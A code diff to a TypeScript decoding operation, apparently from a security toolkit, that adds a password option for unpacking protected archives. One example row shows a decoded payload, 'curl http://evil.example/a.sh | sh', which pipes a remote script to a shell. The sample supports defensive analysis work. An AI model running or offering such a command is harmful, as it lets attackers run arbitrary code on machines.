@@ -1,6 +1,7 @@
 import { z } from 'zod';
 import { confidenceOf } from '../../shared/decode/confidence.ts';
 import { hashesOf, hexPairs } from '../../shared/decode/hashes.ts';
+import { passwordsIfGiven } from '../../shared/decode/passwords.ts';
 import { unpack } from '../../shared/decode/unpack.ts';
 import { operation } from '../../shared/kit/operation.ts';
 import { each, subjects } from '../../shared/kit/subjects.ts';
@@ -18,6 +19,7 @@ export default operation({
     maxItems: z.int().min(1).max(50_000).default(10_000).describe('Most items of one text.'),
     maxBytes: z.int().min(1024).max(256_000_000).default(64_000_000).describe('Most bytes decoded from one text.'),
     maxRatio: z.int().min(2).max(10_000).default(200).describe('Most bytes out of an archive for one byte in, once there is a mebibyte.'),
+    passwords: passwordsIfGiven,
     showBytes: z.boolean().default(false).describe('Give the decoded bytes, as input_bytes in base64.'),
     printableBytes: z.int().min(0).max(10_000_000).default(256).describe('Bytes shown as hexadecimal pairs; also of binary inside the decoded text.'),
   }),
@@ -58,8 +60,8 @@ export default operation({
       rows: [{ file_name: 'gzip_file', file_type: 'gz', decoded_string: 'curl http://evil.example/a.sh | sh' }],
     },
   ],
-  *run({ utf16, urlSafe, leastLength, maxDepth, maxItems, maxBytes, maxRatio, showBytes, printableBytes, ...input }, _ports, call) {
-    const options = { utf16, urlSafe, least: leastLength, depth: maxDepth, bounds: { items: maxItems, bytes: maxBytes, ratio: maxRatio } };
+  *run({ utf16, urlSafe, leastLength, maxDepth, maxItems, maxBytes, maxRatio, passwords, showBytes, printableBytes, ...input }, _ports, call) {
+    const options = { utf16, urlSafe, least: leastLength, depth: maxDepth, bounds: { items: maxItems, bytes: maxBytes, ratio: maxRatio, passwords } };
     const shown = (bytes: Buffer) => hexPairs(bytes.subarray(0, printableBytes)) + (bytes.length > printableBytes ? ' ...' : '');
     for (const { value, sourceIndex } of each(input)) {
       const { items, problems, render } = unpack(value, options);
